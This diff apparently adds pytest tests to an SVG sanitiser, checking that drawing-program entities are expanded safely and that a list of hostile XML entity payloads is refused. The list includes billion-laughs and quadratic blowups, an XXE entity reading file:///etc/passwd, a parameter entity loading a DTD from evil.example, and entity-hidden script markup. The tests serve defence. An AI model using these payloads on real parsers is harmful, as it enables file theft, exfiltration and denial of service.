@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import struct
 import zlib
+from xml.etree import ElementTree
 
 import pytest
 from hypothesis import given, settings
@@ -101,6 +102,67 @@ def test_plain_svgs_pass_and_are_marked(content: bytes) -> None:
     assert (picture.directory, picture.suffix) == ("scalable/apps", ".svg")
     assert owner_of(picture.content) == "demo"
     assert check_picture(picture.content, is_svg=True, container="demo").directory == "scalable/apps"
+
+
+ADOBE = (
+    '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://w3.org/1"[\n'
+    '\t<!ENTITY ns_svg "http://www.w3.org/2000/svg"> <!-- ]> -->\n'
+    '\t<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">\n\t<!ENTITY st0 "fill:#FF0000;">\n'
+    "\t<!ENTITY ns_ai 'http://ns.adobe.com/AdobeIllustrator/10.0/'>\n\t<!ENTITY odd '\"x>y'>\n]>\n"
+    '<svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" xmlns:i="&ns_ai;"><title>&odd; &amp; &#65;</title>'
+    '<path style="&st0;" d="M0 0"/><use xlink:href="#a"/></svg>'
+)
+
+
+def test_entities_of_drawing_programs_become_their_texts() -> None:
+    picture = check_picture(ADOBE.encode(), is_svg=True, container="demo")
+    text = picture.content.decode()
+    assert (
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:i="http://ns'
+        in text
+    )
+    assert '<path style="fill:#FF0000;" d="M0 0"/>' in text
+    assert "<title>&quot;x&gt;y &amp; &#65;</title>" in text
+    assert "ENTITY" not in text
+    assert ElementTree.fromstring(text)[0].text == '"x>y & A'
+
+
+def declaring(declarations: str, inside: str) -> bytes:
+    return svg(inside, f"<!DOCTYPE svg [{declarations}]>")
+
+
+BAD_ENTITIES = {
+    "laughs": declaring('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">', "<title>&c;</title>"),
+    "hidden laughs": declaring('<!ENTITY a "ha"><!ENTITY b "&#38;a;&#38;a;">', "<title>&b;</title>"),
+    "itself": declaring('<!ENTITY a "&a;">', "<title>&a;</title>"),
+    "quadratic": declaring(f'<!ENTITY a "{"x" * 1000}">', "<title>" + "&a;" * 2000 + "</title>"),
+    "long": declaring(f'<!ENTITY a "{"x" * 100_000}">', "<title>&a;</title>"),
+    "many": declaring("".join(f'<!ENTITY a{n} "x">' for n in range(1000)), "<title>&a1;</title>"),
+    "markup": declaring('<!ENTITY a "<script/>">', "<g>&a;</g>"),
+    "hidden markup": declaring('<!ENTITY a "&#60;script/>">', "<g>&a;</g>"),
+    "twice hidden markup": declaring('<!ENTITY a "&#38;#60;script/>">', "<g>&a;</g>"),
+    "file": declaring('<!ENTITY a SYSTEM "file:///etc/passwd">', "<title>&a;</title>"),
+    "unparsed": declaring('<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "file:///x" NDATA n>', ""),
+    "parameter": declaring('<!ENTITY % a "x"> %a;', ""),
+    "parameter outside": declaring('<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;', ""),
+    "reference": declaring('<!ENTITY a "https://evil.example/x.png">', '<image xlink:href="&a;"/>'),
+    "style": declaring('<!ENTITY a "url(https://evil.example/x)">', '<rect fill="&a;"/>'),
+    "style in a part": declaring('<!ENTITY a "u"><!ENTITY b "rl(file:///x)">', "<style>.a{fill:&a;&b;}</style>"),
+    "unknown": declaring('<!ENTITY a "x">', "<title>&b;</title>"),
+    "cut off": b'<!DOCTYPE svg [<!ENTITY a "x">',
+    "no entity": b"<!ENTITY",
+}
+
+
+@pytest.mark.parametrize("content", BAD_ENTITIES.values(), ids=BAD_ENTITIES.keys())
+def test_entities_that_multiply_or_reach_outside_are_refused(content: bytes) -> None:
+    with pytest.raises(BadPicture):
+        check_picture(content, is_svg=True, container="demo")
+
+
+def test_defaults_of_attributes_do_not_reach_the_desktop() -> None:
+    content = declaring('<!ENTITY a "x"><!ATTLIST rect onload CDATA "x()">', "<rect/>")
+    assert b"onload" not in check_picture(content, is_svg=True, container="demo").content
 
 
 BAD_SVGS = {
